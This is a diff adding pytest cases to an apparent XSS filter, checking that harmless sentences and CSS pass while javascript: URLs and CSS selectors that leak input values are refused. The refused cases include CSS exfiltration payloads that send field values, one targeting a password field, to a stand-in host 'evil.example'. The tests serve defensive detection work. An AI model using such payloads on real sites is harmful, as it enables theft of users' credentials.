@@ -865,3 +865,24 @@ def test_head_tags_that_describe_the_page_pass(xss_edge, value):
 @pytest.mark.parametrize("value", HEAD_TAGS_ACTING)
 def test_head_tags_that_load_or_redirect_are_refused(xss_edge, value):
     assert rule_fired(xss_edge, value, "xss-tag"), value
+
+
+# "blocks javascript: links." is a sentence (one word a "." ends is no
+# script: JavaScript rejects it); an attribute selector that selects
+# ("[loading=\"lazy\"]") reads nothing out, a prefix, suffix or substring
+# match that fetches does.
+@pytest.mark.parametrize("value", [
+    "That's why our editor strips onclick attributes and blocks javascript: links.",
+    "Never allow javascript: urls, ever.",
+    'img[loading="lazy"] { background: #f2f2f2 url(\'https://cdn.example.com/p.svg\') no-repeat; }'])
+def test_scheme_in_a_sentence_and_selecting_css_pass(xss_edge, value):
+    assert not rule_fired(xss_edge, value, "xss-scheme"), value
+    assert not rule_fired(xss_edge, value, "xss-css"), value
+
+
+@pytest.mark.parametrize("value,rule", [
+    ("<a href='javascript: void(0)'>", "xss-scheme"), ("javascript: location.href", "xss-scheme"),
+    ('input[value^="a"]{background:url(https://evil.example/?a)}', "xss-css"),
+    ("input[name=pw][value$=x]{background:url(//e/x)}", "xss-css")])
+def test_scheme_code_and_reading_css_refused(xss_edge, value, rule):
+    assert rule_fired(xss_edge, value, rule), value
